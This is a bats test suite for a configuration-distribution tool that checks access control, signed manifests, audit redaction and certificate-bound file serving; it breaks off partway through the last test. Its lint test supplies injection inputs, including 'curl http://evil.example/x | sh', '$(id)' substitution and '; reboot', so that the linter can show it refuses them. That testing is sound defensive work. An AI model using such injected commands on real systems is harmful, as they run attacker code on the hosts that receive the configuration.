#!/usr/bin/env bats
# SPDX-License-Identifier: ISC
# conf-dist: the unix group ACL (throwaway users and groups when run as
# root), read-only agents, the lint, the audit events and their diff,
# publishing compatible with the agent (md5, conf before md5, atomic),
# Ed25519 signatures, agent uploads through Tentacle, adopt, collections,
# the registry in MariaDB, and tentacle-recv's certificate binding.

load helpers

SAMPLE=$DATA/samples/remote-config/238cd44ae5e05cc2dd832a79a3f5ddab.conf
LOADCMD="cat /proc/loadavg | cut -d' ' -f1"	# the module_exec of conf()
RKEY=238cd44ae5e05cc2dd832a79a3f5ddab	# md5("research-agent-01")

setup_file() {
	# The agent's client certificate names web01 (CN).
	export CERTS="$BATS_FILE_TMPDIR/certs"
	sh "$TOOLS/mkcerts.sh" "$CERTS" web01 >/dev/null
	# And db01's, from the same CA.
	(
		cd "$CERTS"
		umask 077
		openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 \
		    -out db01.key 2>/dev/null
		openssl req -new -key db01.key -subj /CN=db01 -out db01.csr \
		    2>/dev/null
		printf 'extendedKeyUsage=clientAuth\n' > db01.ext
		openssl x509 -req -in db01.csr -CA ca.crt -CAkey ca.key \
		    -CAcreateserial -days 3650 -extfile db01.ext \
		    -out db01.crt 2>/dev/null
		rm -f db01.csr db01.ext ./*.srl
		chmod 0644 db01.crt
		chmod 0640 db01.key
	)
	chmod 0755 "$CERTS"
	[ "$(id -u)" -ne 0 ] || chgrp "$RUN_GROUP" "$CERTS"/*.key
	# Root: an authorised and an unauthorised user, both allowed to
	# submit into the queue.  Names unique to this run; removed after.
	if [ "$(id -u)" -eq 0 ]; then
		export U_OPS="ocd${BATS_ROOT_PID}o" U_ALICE="ocd${BATS_ROOT_PID}a"
		export U_BOB="ocd${BATS_ROOT_PID}b" U_SUB="ocd${BATS_ROOT_PID}s"
		teardown_file	# leftovers of a crashed run with this PID
		groupadd "$U_OPS"
		groupadd "$U_SUB"
		useradd -M -N -g "$U_SUB" -G "$U_OPS" -s /usr/sbin/nologin "$U_ALICE"
		useradd -M -N -g "$U_SUB" -s /usr/sbin/nologin "$U_BOB"
	fi
}

teardown_file() {
	if [ -n "${U_ALICE:-}" ]; then
		userdel "$U_ALICE" 2>/dev/null || true
		userdel "$U_BOB" 2>/dev/null || true
		groupdel "$U_OPS" 2>/dev/null || true
		groupdel "$U_SUB" 2>/dev/null || true
	fi
}

setup() {
	mk_tmp
	mk_spool "$T/spool"
	SP=$T/spool
	OUT=$SP/conf-dist/out
	AUD=$SP/audit-sign/new
	mkdir -p "$T/keys" "$T/bin"
	[ "$(id -u)" -eq 0 ] && chown "$RUN_USER:$RUN_GROUP" "$T/keys"
	# A copy anybody can run (the checkout may be closed to others).
	cp "$BIN/conf-dist" "$T/bin/conf-dist"
	chmod 0755 "$T/bin" "$T/bin/conf-dist"
	if [ -n "${U_SUB:-}" ]; then
		chgrp "$U_SUB" "$SP/conf-dist/submit/tmp" "$SP/conf-dist/submit/new"
		ME=root
		ADMIN_GROUP=$U_OPS
	else
		ME=$(id -un)
		ADMIN_GROUP=$(id -gn)
	fi
	# Direct runs are by $ME: root's group or the caller's own.
	mkconf "acl_groups Servers=$ADMIN_GROUP,$( [ "$ME" = root ] && echo root || id -gn)"
	run cdist keygen
	assert_success
}

teardown() {
	stop_recv
	if [ -f "$T/sync.pid" ]; then kill "$(cat "$T/sync.pid")" 2>/dev/null || true; fi
	[ -d "$T/db" ] && sh "$TOOLS/mariadb.sh" stop "$T/db" >/dev/null 2>&1
	local bad=0
	for f in "$T"/*.log; do
		[ -f "$f" ] || continue
		if grep -E 'ERROR: AddressSanitizer|runtime error:|LeakSanitizer' "$f" >&2; then
			bad=1
		fi
	done
	rm -rf "$T"
	return "$bad"
}

# mkconf LINE...: the configuration, with extra [conf-dist] lines.
mkconf() {
	mk_keys
	{
		echo "spool_dir $SP"
		echo "[conf-dist]"
		echo "user $RUN_USER"
		echo "sign_key $T/keys/sign.key"
		echo "sign_pubkey $T/keys/sign.pub"
		echo "upload_producer $RUN_USER"
		echo "recv_pubkey $KEYS/tentacle-recv.pub"
		for l in "$@"; do
			echo "$l"
		done
	} > "$T/o.conf"
	chmod 0644 "$T/o.conf"
}

# cdist ARGS...: conf-dist as the caller; stderr also into cd.log.
cdist() {
	"$T/bin/conf-dist" -c "$T/o.conf" "$@" 2> >(tee -a "$T/cd.log" >&2)
}

# as USER ARGS...: conf-dist as another user (root runs only).
as() {
	local u=$1
	shift
	setpriv --reuid="$u" --regid="$(id -g "$u")" --init-groups -- \
	    "$T/bin/conf-dist" -c "$T/o.conf" "$@" 2> >(tee -a "$T/cd.log" >&2)
}

# events: every audit event queued so far, one per line.
events() {
	segments_handed_on "$SP"
	cat "$AUD"/* 2>/dev/null
}

# valid_json: every audit line parses as JSON.
valid_json() {
	events | perl -MJSON::PP -ne 'JSON::PP->new->decode($_); END { print "ok\n" }'
}

# upload NAME BODYFILE [HEADER...]: an upload as tentacle-recv stores it
# (envelope stamped with its key) in uploads/new; prints the item name.
UPN=0
upload() {
	local name=$1 f=$2 item
	shift 2
	UPN=$((UPN + 1))
	item="$(date +%s).$(printf %06d "$UPN")_1_0000abcd.$name"
	{
		printf 'Octospool-Envelope: 1\nOriginal-Name: %s\n' "$name"
		printf 'Peer: 192.0.2.9 41000\nReceived: 2026-12-06T10:00:00.000000Z\n'
		printf 'Receiver: test tentacle-recv\nTls: TLSv1.3\n'
		for kv in "$@"; do
			printf '%s\n' "$kv"
		done
		printf 'Auth: none\nSha256: %s\n\n' "$(sha256sum < "$f" | cut -c1-64)"
		cat "$f"
	} | "$BIN/tt-stamp" "$KEYS/tentacle-recv.key" tentacle-recv \
	    > "$SP/conf-dist/uploads/new/$item"
	[ "$(id -u)" -ne 0 ] ||
	    chown "$RUN_USER:$RUN_GROUP" "$SP/conf-dist/uploads/new/$item"
	echo "$item"
}

# key NAME: the agent key, md5hex of the name.
key() {
	printf %s "$1" | md5sum | cut -c1-32
}

# publish AGENT...: a small configuration for each agent, submitted.
publish() {
	for a in "$@"; do
		conf "$T/$a.conf" "$a"
		run cdist submit "$a" "$T/$a.conf"
		assert_success
	done
}

# SELF: a unix group of the user who runs conf-dist directly here.
self_group() {
	if [ "$ME" = root ]; then echo root; else id -gn; fi
}

# conf FILE AGENT [extra lines]: a small valid configuration.
conf() {
	local f=$1 a=$2
	shift 2
	{
		echo "# test configuration"
		echo "server_ip 127.0.0.1"
		echo "server_pwd S3cr3t-Pw"
		echo "group_password Gr0up-Pw"
		echo "agent_name $a"
		echo "group Servers"
		echo "interval 600"
		echo "remote_config 1"
		echo "module_begin"
		echo "module_name Load"
		echo "module_type generic_data"
		echo "module_exec $LOADCMD"
		echo "module_end"
		for l in "$@"; do
			echo "$l"
		done
	} > "$f"
	chmod 0644 "$f"
}

@test "usage, version, configuration check (unknown keys 78, unknown groups a warning)" {
	run "$BIN/conf-dist" -h
	assert_success
	assert_output --partial "usage: conf-dist"
	run "$BIN/conf-dist" -V
	assert_output --regexp '^conf-dist [0-9]+\.[0-9]+\.[0-9]+$'
	run "$BIN/conf-dist" -c "$T/o.conf" bogus
	assert_equal "$status" 64
	run cdist -n
	assert_success
	assert_output --partial "configuration ok"
	printf 'spool_dir %s\n[conf-dist]\nacl_grups x=y\n' "$SP" > "$T/bad.conf"
	run "$BIN/conf-dist" -c "$T/bad.conf" -n
	assert_equal "$status" 78
	assert_output --partial "unknown key 'acl_grups'"
	# A group that does not exist admits nobody, and -n says so.
	printf 'spool_dir %s\n[conf-dist]\nacl_groups Servers=no-such-group-xyz\n' "$SP" > "$T/bad.conf"
	run "$BIN/conf-dist" -c "$T/bad.conf" -n
	assert_success
	assert_output --partial "no such unix group 'no-such-group-xyz'"
	# The sample configuration parses.
	sed "s|^spool_dir .*|spool_dir $SP|" "$BATS_TEST_DIRNAME/../etc/octospool.conf" > "$T/sample.conf"
	run "$BIN/conf-dist" -c "$T/sample.conf" -n
	assert_success
	assert_output --partial "configuration ok"
}

@test "keygen: private key 0600 owned by the service user; no overwrite without -f" {
	run stat -c '%a %U' "$T/keys/sign.key"
	assert_output "600 $RUN_USER"
	run cdist keygen
	assert_equal "$status" 73
	assert_output --partial "keygen -f"
	run cdist keygen -f
	assert_success
	chmod 0640 "$T/keys/sign.key"
	conf "$T/a.conf" web01
	run cdist submit web01 "$T/a.conf"
	assert_equal "$status" 78
	assert_output --partial "must be 0600"
}

@test "publish: md5 as md5sum computes it, 32 bytes, signatures verify, one changed byte fails" {
	run cdist submit research-agent-01 "$SAMPLE"
	assert_success
	assert_output --partial "published research-agent-01"
	cmp "$SAMPLE" "$OUT/conf/$RKEY.conf"
	# The real agent's own md5 file for this configuration.
	cmp "$DATA/samples/remote-config/$RKEY.md5" "$OUT/md5/$RKEY.md5"
	assert_equal "$(cat "$OUT/md5/$RKEY.md5")" "$(md5sum < "$SAMPLE" | cut -c1-32)"
	assert_equal "$(stat -c %s "$OUT/md5/$RKEY.md5")" 32
	assert_equal "$(printf %s research-agent-01 | md5sum | cut -c1-32)" "$RKEY"
	# Beside each file its signed manifest: for this agent, this file,
	# these bytes, a serial; checked by conf-dist and by the OpenSSL
	# recipe an agent host can run (tools/conf-verify.sh).
	for f in "$OUT/conf/$RKEY.conf" "$OUT/md5/$RKEY.md5"; do
		n=${f##*/}
		assert_equal "$(sed -n 1p "$f.sig")" "Octospool-Manifest: 1"
		assert_equal "$(sed -n 2p "$f.sig")" "Agent: $RKEY"
		assert_equal "$(sed -n 3p "$f.sig")" "File: $n"
		assert_equal "$(sed -n 4p "$f.sig")" "Size: $(stat -c %s "$f")"
		assert_equal "$(sed -n 5p "$f.sig")" "Sha256: $(sha256sum < "$f" | cut -c1-64)"
		grep -Eq '^Serial: [0-9]{16}$' "$f.sig"
		run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$f" research-agent-01
		assert_success
		assert_output "$f: ok"
	done
	run cdist verify -a research-agent-01 "$OUT/conf/$RKEY.conf" "$OUT/md5/$RKEY.md5"
	assert_success
	assert_line --regexp "^$OUT/conf/$RKEY.conf: signature ok \\(Agent $RKEY, serial [0-9]+, "
	# One byte changed: both verifiers say no.
	cp "$OUT/conf/$RKEY.conf" "$T/$RKEY.conf"
	cp "$OUT/conf/$RKEY.conf.sig" "$T/$RKEY.conf.sig"
	printf 'X' | dd of="$T/$RKEY.conf" bs=1 seek=100 conv=notrunc 2>/dev/null
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$T/$RKEY.conf"
	assert_failure
	assert_output --partial "SHA-256 differs from the manifest"
	run cdist verify "$T/$RKEY.conf"
	assert_equal "$status" 65
	assert_output --partial "REFUSED: the file is not the one the manifest signs"
	# The manifest changed: the signature fails.
	cp "$OUT/conf/$RKEY.conf" "$T/$RKEY.conf"
	sed -i 's/^Serial: 1/Serial: 9/' "$T/$RKEY.conf.sig"
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$T/$RKEY.conf"
	assert_failure
	assert_output --partial "BAD signature"
	run cdist verify "$T/$RKEY.conf"
	assert_equal "$status" 65
	assert_output --partial "BAD signature"
	# An old-style signature of the bytes alone is not enough.
	head -c 64 /dev/urandom > "$T/$RKEY.conf.sig"
	run cdist verify "$T/$RKEY.conf"
	assert_equal "$status" 65
	assert_output --partial "old-style signature"
	# The same configuration again: nothing to do, and said so.
	run cdist submit research-agent-01 "$SAMPLE"
	assert_success
	assert_output --partial "unchanged research-agent-01"
	run events
	assert_equal "$(events | grep -c '"action":"config.publish","outcome":"published"')" 1
	assert_equal "$(events | grep -c '"outcome":"unchanged"')" 1
	events | grep '"outcome":"published"' | grep -q "\"agent\":\"research-agent-01\",\"key\":\"$RKEY\",\"submitter\":\"$ME\""
	run valid_json
	assert_output ok
}

@test "conf is published before md5: a crash between the two renames never shows a new md5 with an old conf" {
	conf "$T/v1.conf" web01
	conf "$T/v2.conf" web01 "module_plugin /usr/bin/v2plugin"
	key=$(printf %s web01 | md5sum | cut -c1-32)
	run cdist submit web01 "$T/v1.conf"
	assert_success
	old=$(md5sum < "$T/v1.conf" | cut -c1-32)
	new=$(md5sum < "$T/v2.conf" | cut -c1-32)
	# Stop right after the conf's rename, before the md5 is written.
	PIPELINE_CRASH_AT=conf-published run cdist submit web01 "$T/v2.conf"
	assert_equal "$status" 99
	cmp "$T/v2.conf" "$OUT/conf/$key.conf"
	assert_equal "$(cat "$OUT/md5/$key.md5")" "$old"
	# The agent compares md5s: it sees no change yet, and fetches
	# nothing half-done.  A new run finishes the pair.
	run cdist submit web01 "$T/v2.conf"
	assert_success
	assert_equal "$(cat "$OUT/md5/$key.md5")" "$new"
	cmp "$T/v2.conf" "$OUT/conf/$key.conf"
	run cdist verify "$OUT/conf/$key.conf" "$OUT/md5/$key.md5"
	assert_success
	# Nothing but published files and their signatures (no temp files).
	run ls -A "$OUT/conf" "$OUT/md5"
	refute_output --partial ".web01"
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 2
}

@test "a submission by a user outside the allowed group is refused, audited, nothing published" {
	conf "$T/a.conf" web01
	if [ -n "${U_BOB:-}" ]; then
		# Through the queue: the file's owner is the submitter.
		run as "$U_BOB" submit web01 "$T/a.conf"
		assert_success
		assert_output --partial "queued submit for web01"
		f=$(ls "$SP/conf-dist/submit/new")
		assert_equal "$(stat -c %U "$SP/conf-dist/submit/new/$f")" "$U_BOB"
		run cdist drain
		assert_success
		assert_file_exists "$SP/conf-dist/submit/reject/$f"
		grep -q "^reason=user $U_BOB may not configure agents of group 'Servers'" \
		    "$SP/conf-dist/submit/reject/$f.reason"
		who=$U_BOB
	else
		mkconf "acl_groups Servers=root"
		run cdist submit web01 "$T/a.conf"
		assert_equal "$status" 77
		who=$ME
	fi
	assert_equal "$(ls -A "$OUT/conf" "$OUT/md5" | grep -c web01)" 0
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
	assert_equal "$(ls -A "$OUT/md5" | wc -l)" 0
	run events
	assert_output --partial '"action":"config.publish","outcome":"refused"'
	assert_output --partial "\"submitter\":\"$who\""
	assert_output --partial "may not configure agents of group 'Servers'"
	# What was attempted is on record, the secrets are not.
	assert_output --partial "\"field\":\"module[Load].module_exec\",\"old\":null,\"new\":\"$LOADCMD\",\"command\":true}"
	refute_output --partial "S3cr3t-Pw"
	refute_output --partial "Gr0up-Pw"
}

@test "an authorised user's queued submission is published under that user's name" {
	[ -n "${U_ALICE:-}" ] || skip "needs root for throwaway users"
	conf "$T/a.conf" web01
	run as "$U_ALICE" submit web01 "$T/a.conf"
	assert_success
	# A file a submitter drops into the queue: its agent_name names it.
	conf "$T/b.conf" web02
	setpriv --reuid="$U_ALICE" --regid="$U_SUB" --init-groups -- \
	    sh -c "cp '$T/b.conf' '$SP/conf-dist/submit/tmp/drop' && mv '$SP/conf-dist/submit/tmp/drop' '$SP/conf-dist/submit/new/drop'"
	# Someone else's file made writable for others is not trusted.
	conf "$T/c.conf" web03
	cp "$T/c.conf" "$SP/conf-dist/submit/new/zz-writable"
	chmod 0666 "$SP/conf-dist/submit/new/zz-writable"
	run cdist drain
	assert_success
	assert_file_exists "$OUT/conf/$(printf %s web01 | md5sum | cut -c1-32).conf"
	assert_file_exists "$OUT/conf/$(printf %s web02 | md5sum | cut -c1-32).conf"
	assert_file_not_exists "$OUT/conf/$(printf %s web03 | md5sum | cut -c1-32).conf"
	assert_file_exists "$SP/conf-dist/submit/reject/zz-writable.reason"
	assert_equal "$(ls -A "$SP/conf-dist/submit/new" | wc -l)" 0
	run events
	assert_output --regexp "\"outcome\":\"published\",\"agent\":\"web01\",[^}]*\"submitter\":\"$U_ALICE\",\"uid\":$(id -u "$U_ALICE"),\"via\":\"queue\""
	assert_output --regexp "\"outcome\":\"published\",\"agent\":\"web02\",[^}]*\"submitter\":\"$U_ALICE\""
}

@test "a read-only agent is refused (readonly_agents), audited, nothing published" {
	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "readonly_agents db-* payments01"
	conf "$T/a.conf" payments01
	run cdist submit payments01 "$T/a.conf"
	assert_equal "$status" 77
	assert_output --partial "agent is read-only (config)"
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
	run events
	assert_output --partial '"outcome":"refused","agent":"payments01"'
	assert_output --partial '"read_only":"config"'
}

@test "a lint failure is refused with the line, audited, nothing published" {
	conf "$T/a.conf" web01 \
	    'server_opts -c ; curl http://evil.example/x | sh' \
	    'temporal /tmp/$(id)' \
	    'pandora_nice 10; reboot' \
	    'agent_name_cmd hostname `id`' \
	    'include relative/*.conf' \
	    'udp_server 1'
	run cdist submit web01 "$T/a.conf"
	assert_equal "$status" 65
	assert_output --partial "line 14: server_opts: shell metacharacter ';'"
	assert_output --partial "line 15: temporal: shell metacharacter '\$'"
	assert_output --partial "line 16: pandora_nice: not a number in range"
	assert_output --partial "line 17: agent_name_cmd: shell metacharacter '\`'"
	assert_output --partial "line 18: include: not an absolute path"
	assert_output --partial "line 19: udp_server: opens a listener"
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
	run events
	assert_output --partial '"outcome":"refused","agent":"web01"'
	assert_output --partial '"reason":"lint: line 14: server_opts: shell metacharacter'
	assert_output --partial '"lint":["line 14: server_opts'
	# A token allowed by the administrator passes; syntax errors never do.
	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "lint_allow agent_name_cmd"
	conf "$T/b.conf" web01 'agent_name_cmd hostname -f | tr A-Z a-z'
	run cdist submit web01 "$T/b.conf"
	assert_success
	printf 'agent_name web01\ngroup Servers\nmodule_begin\nmodule_name x\nmodule_exec true\n' > "$T/c.conf"
	run cdist lint web01 "$T/c.conf"
	assert_equal "$status" 65
	assert_output --partial "line 3: module_begin has no module_end"
	printf 'agent_name web09\ngroup Servers\n' > "$T/d.conf"
	run cdist lint web01 "$T/d.conf"
	assert_output --partial "line 1: agent_name is not 'web01'"
	run cdist lint "$SAMPLE"
	assert_success
}

@test "the audit diff of a change names module_exec added and interval altered, old and new; secrets never appear" {
	conf "$T/v1.conf" web01 "secondary_server_opts -x Sec0nd-Pw -v"
	run cdist submit web01 "$T/v1.conf"
	assert_success
	conf "$T/v2.conf" web01 "secondary_server_opts -x Sec0nd-Pw2 -v" \
	    "module_begin" "module_name Pushed" "module_type generic_data" \
	    "module_exec echo 99; logger pushed" "module_end"
	sed -i 's/^interval 600$/interval 300/; s/^server_pwd .*/server_pwd N3w-Pw/; s/^group_password .*/group_password N3w-Gr0up/' "$T/v2.conf"
	run cdist submit web01 "$T/v2.conf"
	assert_success
	ev=$(events | grep '"old_md5":"[0-9a-f]\{32\}"')
	[ -n "$ev" ]
	run echo "$ev"
	assert_output --partial '{"field":"interval","old":"600","new":"300"}'
	assert_output --partial '{"field":"module[Pushed].module_exec","old":null,"new":"echo 99; logger pushed","command":true}'
	assert_output --partial '{"field":"module[Pushed].module_name","old":null,"new":"Pushed"}'
	assert_output --partial '{"field":"server_pwd","old":"********","new":"********"}'
	assert_output --partial '{"field":"group_password","old":"********","new":"********"}'
	assert_output --partial '{"field":"secondary_server_opts","old":"-x ******** (changed)","new":"-x ******** (changed)"}'
	refute_output --partial '"field":"agent_name"'
	# Removed: the old command with its value, the new one null.
	conf "$T/v3.conf" web01
	sed -i '/^module_exec/d' "$T/v3.conf"
	echo "module_begin" >> "$T/v3.conf"
	run cdist submit web01 "$T/v3.conf"
	assert_failure
	sed -i '$d' "$T/v3.conf"
	sed -i 's/^module_type generic_data$/module_type generic_data\nmodule_exec uptime/' "$T/v3.conf"
	run cdist submit web01 "$T/v3.conf"
	assert_success
	run sh -c "cat '$AUD'/* | tail -1"
	assert_output --partial "{\"field\":\"module[Load].module_exec\",\"old\":\"$LOADCMD\",\"new\":\"uptime\",\"command\":true}"
	assert_output --partial '{"field":"module[Pushed].module_exec","old":"echo 99; logger pushed","new":null,"command":true}'
	# No secret anywhere: audit events, logs, stdout.
	for s in S3cr3t-Pw Gr0up-Pw N3w-Pw N3w-Gr0up Sec0nd-Pw; do
		run grep -rl -- "$s" "$AUD" "$T/cd.log"
		assert_failure
	done
	run valid_json
	assert_output ok
}

@test "agent uploads over Tentacle land in uploads/, RECV still serves the published version; adopt strips secrets" {
	start_recv -F "$T/empty.conf" --spool "$SP"
	conf "$T/agent.conf" research-agent-01 "module_plugin planted-by-agent"
	md5sum < "$T/agent.conf" | cut -c1-32 | tr -d '\n' > "$T/agent.md5"
	mkdir "$T/up"
	cp "$T/agent.conf" "$T/up/$RKEY.conf"
	cp "$T/agent.md5" "$T/up/$RKEY.md5"
	mkdir "$T/fetch"
	cd "$T/fetch"
	# Nothing published yet: the agent's first-time path.
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$RKEY.md5"
	assert_failure
	assert_output --partial "file does not exist"
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" "$T/up/$RKEY.conf" "$T/up/$RKEY.md5"
	assert_success
	assert_equal "$(count "$SP"/conf-dist/uploads/new/*."$RKEY".conf)" 1
	assert_equal "$(count "$SP"/conf-dist/uploads/new/*."$RKEY".md5)" 1
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$RKEY.conf"
	assert_failure
	# Published: RECV serves it, the upload changes nothing.
	run cdist submit research-agent-01 "$SAMPLE"
	assert_success
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" "$T/up/$RKEY.conf"
	assert_success
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$RKEY.md5" "$RKEY.conf"
	assert_success
	cmp "$SAMPLE" "$RKEY.conf"
	cmp "$DATA/samples/remote-config/$RKEY.md5" "$RKEY.md5"
	run cdist uploads
	assert_success
	assert_line --partial "name=$RKEY.conf agent=\"research-agent-01\" key_matches=yes cert_bound=unverified peer=127.0.0.1"
	assert_equal "$(echo "$output" | grep -c "name=$RKEY")" 3
	# -p shows what adopt would publish: no secrets, nothing published.
	run cdist adopt -p research-agent-01
	assert_success
	assert_output --partial "module_plugin planted-by-agent"
	assert_output --partial "# server_pwd removed by conf-dist adopt"
	refute_output --partial "S3cr3t-Pw"
	refute_output --partial "Gr0up-Pw"
	cmp "$SAMPLE" "$OUT/conf/$RKEY.conf"
	# Sent without a client certificate: not adopted unless asked.
	run cdist adopt research-agent-01
	assert_equal "$status" 77
	assert_output --partial "not verified to come from the agent: sent without a client certificate (adopt -U accepts it"
	cmp "$SAMPLE" "$OUT/conf/$RKEY.conf"
	run cdist adopt -U research-agent-01
	assert_success
	assert_output --partial "published research-agent-01"
	run grep -c 'S3cr3t-Pw\|Gr0up-Pw' "$OUT/conf/$RKEY.conf"
	assert_output 0
	grep -q '^module_plugin planted-by-agent$' "$OUT/conf/$RKEY.conf"
	assert_equal "$(ls -A "$SP/conf-dist/uploads/new" | wc -l)" 0
	run events
	assert_output --regexp '"action":"config.adopt","outcome":"refused"[^}]*"reason":"the upload is not verified[^}]*"upload_cert_bound":"unverified"'
	assert_output --regexp '"action":"config.adopt","outcome":"published"[^}]*"upload_peer":"127.0.0.1"[^}]*"upload_cert_bound":"unverified"[^}]*"secrets_stripped":2'
	assert_output --partial '{"field":"module_plugin","old":null,"new":"planted-by-agent","command":true}'
	refute_output --partial "S3cr3t-Pw"
	run cdist adopt -U research-agent-01
	assert_equal "$status" 66
	assert_output --partial "no upload of $RKEY.conf"
}

@test "with client certificates: web01's certificate gets web01's conf and md5, never db01's" {
	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)"
	publish web01 db01
	w=$(printf %s web01 | md5sum | cut -c1-32)
	d=$(printf %s db01 | md5sum | cut -c1-32)
	# The signatures are served too, each beside its file.
	start_recv -F "$T/empty.conf" --spool "$SP" -e "$CERTS/server.crt" \
	    -k "$CERTS/server.key" -f "$CERTS/ca.crt" \
	    -i '.*\.conf:conf;.*\.md5:md5;.*\.zip:collections;.*\.conf\.sig:conf;.*\.md5\.sig:md5;.*\.zip\.sig:collections'
	tls=(-a 127.0.0.1 -p "$PORT" -e "$CERTS/client.crt" -k "$CERTS/client.key" -f "$CERTS/ca.crt")
	mkdir "$T/fetch"
	cd "$T/fetch"
	run "$BIN/tentacle-send" "${tls[@]}" -g "$w.md5" "$w.conf" "$w.conf.sig"
	assert_success
	cmp "$T/web01.conf" "$w.conf"
	cmp "$OUT/md5/$w.md5" "$w.md5"
	for n in "$d.md5" "$d.conf" "$d.conf.sig"; do
		run "$BIN/tentacle-send" "${tls[@]}" -g "$n"
		assert_failure
		assert_output --partial "file does not exist"
		assert_file_not_exists "$n"
	done
	# ZRECV alike; and the refusal is logged and audited as what it is.
	run "$BIN/tentacle-send" "${tls[@]}" -z -g "$d.conf"
	assert_failure
	grep -q "event=recv.unbound name=\"$d.conf\"" "$T/recv.log"
	segments_handed_on "$SP"
	grep -q '"action":"file.served","outcome":"refused".*certificate not bound' "$AUD"/*
	# Collections go to the agents configured to use them: nobody's yet.
	mkdir -p "$T/coll/plugins"
	printf '#!/bin/sh\necho 1\n' > "$T/coll/plugins/p.sh"
	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "acl_collections *=root,$(id -gn)"
	run cdist collection publish fc_1 "$T/coll"
	assert_success
	run "$BIN/tentacle-send" "${tls[@]}" -g fc_1.md5
	assert_failure
	assert_output --partial "file does not exist"
	stop_recv
	# Without client certificates: the stock (weaker) behaviour.
	start_recv -F "$T/empty.conf" --spool "$SP"
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$d.conf"
	assert_success
}

@test "with client certificates: a collection goes only to agents whose published conf lists it; .acl never served" {
	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "acl_collections *=root,$(id -gn)"
	w=$(printf %s web01 | md5sum | cut -c1-32)
	d=$(printf %s db01 | md5sum | cut -c1-32)
	mkdir -p "$T/coll"
	printf '#!/bin/sh\necho 1\n' > "$T/coll/p.sh"
	run cdist collection publish fc_2 "$T/coll"
	assert_success
	# Published, listed by nobody: an empty access list.
	assert_file_exists "$OUT/collections/fc_2.acl"
	assert_equal "$(wc -c < "$OUT/collections/fc_2.acl")" 0
	conf "$T/web01.conf" web01 "file_collection fc_2" "file_collection fc_later"
	conf "$T/db01.conf" db01
	run cdist submit web01 "$T/web01.conf"
	assert_success
	run cdist submit db01 "$T/db01.conf"
	assert_success
	assert_equal "$(cat "$OUT/collections/fc_2.acl")" "$w"
	# A collection listed before it is published has its list already.
	assert_equal "$(cat "$OUT/collections/fc_later.acl")" "$w"
	start_recv -F "$T/empty.conf" --spool "$SP" -e "$CERTS/server.crt" \
	    -k "$CERTS/server.key" -f "$CERTS/ca.crt" \
	    -i '.*\.conf:conf;.*\.md5:md5;.*\.zip:collections;.*\.md5\.sig:md5;.*\.zip\.sig:collections;.*\.acl:collections'
	base=(-a 127.0.0.1 -p "$PORT" -f "$CERTS/ca.crt")
	web=("${base[@]}" -e "$CERTS/client.crt" -k "$CERTS/client.key")
	db=("${base[@]}" -e "$CERTS/db01.crt" -k "$CERTS/db01.key")
	mkdir "$T/fetch"
	cd "$T/fetch"
	run "$BIN/tentacle-send" "${web[@]}" -g fc_2.md5 fc_2.zip fc_2.md5.sig fc_2.zip.sig
	assert_success
	cmp "$OUT/md5/fc_2.md5" fc_2.md5
	cmp "$OUT/collections/fc_2.zip" fc_2.zip
	cmp "$OUT/collections/fc_2.zip.sig" fc_2.zip.sig
	rm -f fc_2.*
	for n in fc_2.md5 fc_2.zip fc_2.zip.sig fc_2.md5.sig; do
		run "$BIN/tentacle-send" "${db[@]}" -g "$n"
		assert_failure
		assert_output --partial "file does not exist"
		assert_file_not_exists "$n"
	done
	run "$BIN/tentacle-send" "${db[@]}" -z -g fc_2.zip
	assert_failure
	assert_file_not_exists fc_2.zip
	grep -q 'event=recv.unbound name="fc_2.zip".*collection not configured' "$T/recv.log"
	segments_handed_on "$SP"
	grep -q '"action":"file.served","outcome":"refused".*collection not configured' "$AUD"/*
	# The access lists themselves: never, not even to a listed agent.
	for c in web db; do
		eval "args=(\"\${$c[@]}\")"
		run "$BIN/tentacle-send" "${args[@]}" -g fc_2.acl
		assert_failure
		assert_output --partial "file does not exist"
		assert_file_not_exists fc_2.acl
	done
	# db01's new conf lists it: db01 gets it.
	conf "$T/db01.conf" db01 "file_collection fc_2"
	run cdist submit db01 "$T/db01.conf"
	assert_success
	assert_equal "$(cat "$OUT/collections/fc_2.acl")" "$(printf '%s\n' "$w" "$d" | LC_ALL=C sort)"
	run "$BIN/tentacle-send" "${db[@]}" -g fc_2.md5 fc_2.zip
	assert_success
	cmp "$OUT/collections/fc_2.zip" fc_2.zip
	rm -f fc_2.*
	# web01's new conf drops it: web01 no longer gets it.
	conf "$T/web01.conf" web01
	run cdist submit web01 "$T/web01.conf"
	assert_success
	assert_equal "$(cat "$OUT/collections/fc_2.acl")" "$d"
	assert_file_not_exists "$OUT/collections/fc_later.acl"
	for n in fc_2.md5 fc_2.zip; do
		run "$BIN/tentacle-send" "${web[@]}" -g "$n"
		assert_failure
		assert_output --partial "file does not exist"
	done
	run "$BIN/tentacle-send" "${db[@]}" -z -g fc_2.zip
	assert_success
	# Republishing the collection keeps its list.
	printf 'more\n' > "$T/coll/data.txt"
	run cdist collection publish fc_2 "$T/coll"
	assert_success
	assert_equal "$(cat "$OUT/collections/fc_2.acl")" "$d"
	stop_recv
	# Without client certificates: the stock (weaker) behaviour, but
	# still no access list.
	start_recv -F "$T/empty.conf" --spool "$SP" \
	    -i '.*\.md5:md5;.*\.zip:collections;.*\.acl:collections'
	rm -f fc_2.*
